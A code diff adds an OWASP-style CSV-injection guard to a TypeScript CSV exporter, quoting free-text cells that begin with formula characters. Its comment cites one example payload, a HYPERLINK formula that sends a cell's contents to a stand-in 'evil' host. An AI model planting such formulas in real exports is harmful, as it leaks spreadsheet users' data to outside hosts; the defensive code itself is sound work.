@@ -28,3 +28,16 @@ export function csvFormatter(delimiter: string): (fields: readonly string[]) => 
 export function decimalText(value: unknown): string {
   return typeof value === 'number' && Number.isFinite(value) ? JSON.stringify(value) : String(value);
 }
+
+/** First characters a spreadsheet reads as the start of a formula (OWASP "CSV Injection"). */
+const FORMULA_START = /^[=+\-@\t\r]/;
+
+/**
+ * A text cell a spreadsheet will show as text: one starting with `=`, `+`, `-`, `@`, tab or carriage
+ * return gets a leading `'`, as OWASP recommends, so `=HYPERLINK("http://evil/?"&A1)` typed as a lot
+ * number cannot run when a metrologist opens the export in Excel or LibreOffice. Only for free-text
+ * columns: numbers are written as numbers (a negative deviation stays `-0.5`).
+ */
+export function neutralizeFormula(text: string): string {
+  return FORMULA_START.test(text) ? `'${text}` : text;
+}
